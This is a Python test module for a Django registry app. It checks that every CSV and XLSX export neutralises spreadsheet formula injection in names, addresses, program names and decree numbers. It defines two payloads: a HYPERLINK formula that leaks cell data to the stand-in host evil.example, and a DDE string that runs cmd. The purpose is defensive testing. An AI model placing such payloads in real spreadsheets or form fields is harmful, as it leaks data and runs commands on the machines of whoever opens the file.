"""No spreadsheet or CSV the app writes for people runs a formula typed into a form (issues 17.3 and 23.2).

Each export is produced with a name (or address, program, period, decree number) such as
`=HYPERLINK("http://evil.example/?"&A1,"klik")`: an XLSX must hold it as a text cell (no `<f>` in the sheet
XML, openpyxl reads no formula) with the value unchanged, a CSV field must not start with = + - @ tab or CR.
The last test keeps every other writer to `core/spreadsheets.py`, except the exchange files for programs.
"""

import csv
import datetime as dt
import io
import re
import zipfile
from pathlib import Path
from types import SimpleNamespace

import openpyxl
import pytest
from conftest import BANGKA, VILLAGE_IN
from django.urls import reverse
from targeting.conftest import ranked  # noqa: F401 - a fixture
from verification.fixtures import accept, answers, entry, make_entry, make_prelist, operator, psm, tksk  # noqa: F401

from mutakhir.accounts.models import Role
from mutakhir.core.spreadsheets import FORMULA_START, CsvWriter, Spreadsheet, csv_field, from_csv_field
from mutakhir.decrees.annex import annex_xlsx
from mutakhir.decrees.models import Decree
from mutakhir.decrees.services import do_compile_decree
from mutakhir.identification import prelists
from mutakhir.ranking import views as ranking_views
from mutakhir.registration.imports import import_registrations
from mutakhir.registration.models import Registration, RegistrationMember
from mutakhir.registration.xlsx_template import build_template
from mutakhir.registry.exchange.errors import IssueLog
from mutakhir.registry.models import UpdatePeriod
from mutakhir.targeting import services as targeting
from mutakhir.targeting.exports import write_xlsx
from mutakhir.targeting.views import _export as list_export
from mutakhir.verification.models import Verification
from mutakhir.verification.xlsform import write_xlsform
from mutakhir.verivali.models import SelectionItem
from mutakhir.verivali.outcomes import exports as outcomes
from mutakhir.verivali.outcomes.figures import figures

pytestmark = pytest.mark.django_db
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"klik")'
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"
NUMBER = re.compile(r"-?\d+(\.\d+)?")
SRC = Path(__file__).resolve().parents[2] / "src" / "mutakhir"


def formula_free(data: bytes, *texts: str) -> list[list]:
    """Assert a workbook has no formula anywhere and holds each of `texts` as a text cell; return its rows."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert not re.search(rb"<f[ >]", archive.read(name)), f"a formula in {name}"
    book = openpyxl.load_workbook(io.BytesIO(data))
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    for text in texts:
        found = [c for c in cells if c.value == text]
        assert found and all(c.data_type == "s" and c.quotePrefix for c in found), text
    return [[c.value for c in row] for sheet in book for row in sheet.iter_rows()]


def csv_safe(text: str, *expected: str) -> list[list[str]]:
    """Assert no CSV field but a number starts like a formula, each of `expected` is there neutralised; return rows."""
    rows = list(csv.reader(io.StringIO(text)))
    assert not [f for row in rows for f in row if f.startswith(FORMULA_START) and not NUMBER.fullmatch(f)]
    fields = {f for row in rows for f in row}
    assert all("'" + e in fields for e in expected), expected
    return rows


def test_the_prelist_xlsx_keeps_names_and_addresses_as_text(operator):  # noqa: F811
    new = make_entry(make_prelist(VILLAGE_IN, operator))
    RegistrationMember.objects.filter(registration=new.registration).update(name=EVIL)
    Registration.objects.filter(pk=new.registration_id).update(address=DDE)
    formula_free(prelists.xlsx(new.prelist), EVIL, DDE)


def test_the_signed_decree_annex_keeps_the_heads_name_as_text(entry, psm, tksk, operator):  # noqa: F811
    v = accept(entry, psm, tksk)
    data = answers()
    data["members"][0]["name"] = EVIL
    Verification.objects.filter(pk=v.pk).update(answers=data)  # as the verification form accepted it
    decree = do_compile_decree(district="1901", period=v.entry.prelist.update_period, number="+400/1/2025",
                               date=dt.date(2025, 3, 1), legal_basis="Permensos 3/2021", signer_name="H. Mulkan",
                               signer_title="Bupati Bangka", actor=operator)
    rows = formula_free(annex_xlsx(decree), EVIL, "+400/1/2025")
    assert rows[2][3:5] == [EVIL, "1901********0001"]


def test_the_registration_import_report_keeps_bad_values_as_text(tmp_path, make_user):
    UpdatePeriod.objects.create(region_id=BANGKA, name="P", starts_on=dt.date(2025, 1, 1))
    importer = make_user(Role.DISTRICT_OPERATOR, BANGKA)
    path = tmp_path / "data.zip"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("households.csv", f'household_id,region_code,address\nH1,{VILLAGE_IN},Jl. Melati\n')
        archive.writestr("members.csv", "record_id,household_id,nik,name,sex,birth_date,relation\n"
                                        f'M1,H1,"{EVIL.replace(chr(34), chr(34) * 2)}",Budi,1,1980-05-01,1\n')
    run = import_registrations(path, period=UpdatePeriod.objects.get(), user=importer)
    assert run.report
    formula_free(run.report.read(), EVIL)


def test_the_registry_import_error_report_is_formula_safe(tmp_path):
    with IssueLog(tmp_path / "errors.csv") as log:
        log.error("members.csv", 2, "name", "bad", "bad name", value=EVIL)
        log.warning("members.csv", 3, "nik", "odd", "odd nik", value="-1+1")
    rows = csv_safe((tmp_path / "errors.csv").read_text(encoding="utf-8"), EVIL, "-1+1")
    assert rows[1][2] == "2"


@pytest.fixture
def evil_list(ranked):  # noqa: F811 - the fixture imported above
    blist = targeting.do_build_list(targeting.do_create_program(EVIL, "desil <= 4", "household").current, ranked)
    blist.entries.filter(household_id="T1").update(reason=EVIL)
    return blist


def test_the_beneficiary_list_csv_and_xlsx_are_formula_safe(evil_list, make_user):
    user = make_user(Role.NATIONAL)
    rows = csv_safe(list_export(user, evil_list, "csv"), EVIL)
    assert any(row[0] == "T1" and row[-1] == "'" + EVIL for row in rows)
    formula_free(list_export(user, evil_list, "xlsx"), EVIL)


def test_the_targeting_figures_csv_is_formula_safe(client, make_user, evil_list):
    client.force_login(make_user(Role.AUDITOR))
    csv_safe(client.get(reverse("targeting:dashboard_csv")).content.decode(), EVIL)


def test_the_list_xlsx_of_the_command_is_formula_safe_and_keeps_numbers(tmp_path):
    src = tmp_path / "list.csv"
    src.write_text(f'household_id,score,reason\n"{EVIL.replace(chr(34), chr(34) * 2)}",-1.5,+1\n@SUM(A1),2,\tx\n')
    assert write_xlsx(src, tmp_path / "list.xlsx")
    rows = formula_free((tmp_path / "list.xlsx").read_bytes(), EVIL, "+1", "@SUM(A1)", "\tx")
    assert rows[1][1] == -1.5 and rows[2][1] == 2


def test_the_ranking_movers_csv_is_formula_safe(monkeypatch):
    monkeypatch.setattr(ranking_views.compare, "iter_moves", lambda moved, new, old: [EVIL])
    monkeypatch.setattr(ranking_views.compare, "csv_row", lambda move: [move, -2, 1.5, "\r=1+1"])
    response = ranking_views._movers_file(SimpleNamespace(pk=2), SimpleNamespace(pk=1), None)
    rows = csv_safe(b"".join(response.streaming_content).decode(), EVIL, "\r=1+1")
    assert rows[1][1:3] == ["-2", "1.5"]  # numbers stay numbers


def test_the_verivali_outcome_xlsx_is_formula_safe(regions):
    period = UpdatePeriod.objects.create(region_id=BANGKA, name=EVIL, starts_on=dt.date(2025, 1, 1))
    report = figures(period, SelectionItem.objects.none())
    formula_free(outcomes.xlsx(report, period, Decree(number="-400/2/2025")), EVIL, "-400/2/2025")


def test_the_xlsform_and_its_prelist_csv_are_formula_safe(entry, tmp_path):  # noqa: F811
    entry.household.__class__.objects.filter(pk=entry.household_id).update(address=EVIL)
    form, attachment = write_xlsform(entry.prelist, tmp_path / "form.xlsx", "1")
    formula_free(form.read_bytes())
    csv_safe(attachment.read_text(encoding="utf-8"), EVIL)


def test_the_registration_template_has_no_formula_cell():
    formula_free(build_template())


def test_the_writers_neutralise_text_only():
    buffer = io.StringIO()
    CsvWriter(buffer).writerow([EVIL, "+1", "-x", "@x", "\tx", "\rx", "plain", -1.5, 3, None, ""])
    assert next(csv.reader(io.StringIO(buffer.getvalue()))) == [
        "'" + EVIL, "'+1", "'-x", "'@x", "'\tx", "'\rx", "plain", "-1.5", "3", "", ""]
    assert from_csv_field(csv_field(EVIL)) == EVIL and from_csv_field("'quoted") == "'quoted"
    book = Spreadsheet()
    book.sheet("s").append([EVIL, -1.5, "plain"])
    rows = formula_free(book.to_bytes(), EVIL)
    assert rows == [[EVIL, -1.5, "plain"]]


# Exchange files read by programs, written verbatim (a leading apostrophe would change the data they carry).
VERBATIM = {
    "registry/exchange/exporter.py": "the registry exchange format (shared/FORMAT.md), read back by imports",
    "decrees/package_export.py": "the decree package to the national team, hashed and imported by `package import`",
    "identification/linkage/io.py": "linkage inputs and outputs (ids and probabilities), read back by the app",
    "registration/exchange_adapter.py": "an uploaded workbook turned into CSV to import it, never sent out",
    "targeting/services.py": "household ids of the previous list, a temporary input of the list drawing",
    "synth/writer.py": "the synthetic population, in the registry exchange format",
}
WRITERS = re.compile(r"\bWorkbook\(|csv\.writer\(|csv\.DictWriter\(|\.to_csv\(|\.write_csv\(")


def test_every_spreadsheet_or_csv_writer_goes_through_core_spreadsheets():
    found = {str(p.relative_to(SRC)) for p in SRC.rglob("*.py") if WRITERS.search(p.read_text(encoding="utf-8"))}
    assert found == {"core/spreadsheets.py", *VERBATIM}
